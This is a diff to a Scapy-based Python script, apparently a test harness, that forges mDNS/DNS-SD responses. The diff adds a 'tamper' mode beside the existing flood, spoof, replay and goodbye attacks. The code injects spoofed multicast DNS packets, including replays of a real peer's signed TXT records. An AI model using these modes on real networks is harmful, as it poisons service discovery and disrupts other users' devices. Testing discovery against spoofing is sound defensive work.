@@ -14,6 +14,8 @@ the root network namespace, whose eth0 may be a shared network.
         responder would)
   attacks.py replay  NAME HOST PORT COUNT GAP SRC4 SRC6 TXT...   like chimera,
         with the TXT strings given (e.g. a real peer's signed TXT, copied)
+  attacks.py tamper  NAME HOST PORT COUNT GAP SRC4 SRC6 TXT...   like replay,
+        without address records (HOST is a real host, whose own stay)
   attacks.py goodbye NAME COUNT SRC4 SRC6   COUNT goodbyes (PTR TTL 0) for NAME
 
 Prints one line "<mode> <count>" when done.
@@ -96,8 +98,9 @@ def flood(prefix, count, ttl, src4, src6=None):
 
 def chimera(name, host, port, info, count, gap, src4, src6, txt=None, mode="chimera"):
     rrs = service(name, host, port, info, 120, txt)
-    rrs += [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=src4),
-            DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=src6)]
+    if mode != "tamper":
+        rrs += [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=src4),
+                DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=src6)]
     dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
     for i in range(count):
         sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
@@ -122,9 +125,9 @@ def main(argv):
             flood(argv[2], int(argv[3]), int(argv[4]), argv[5], argv[6] if len(argv) > 6 else None)
         elif mode == "chimera":
             chimera(argv[2], argv[3], int(argv[4]), argv[5], int(argv[6]), float(argv[7]), argv[8], argv[9])
-        elif mode == "replay":
+        elif mode in ("replay", "tamper"):
             chimera(argv[2], argv[3], int(argv[4]), "", int(argv[5]), float(argv[6]), argv[7], argv[8],
-                    [t.encode() for t in argv[9:]], "replay")
+                    [t.encode() for t in argv[9:]], mode)
         elif mode == "goodbye":
             goodbye(argv[2], int(argv[3]), argv[4], argv[5])
         else:
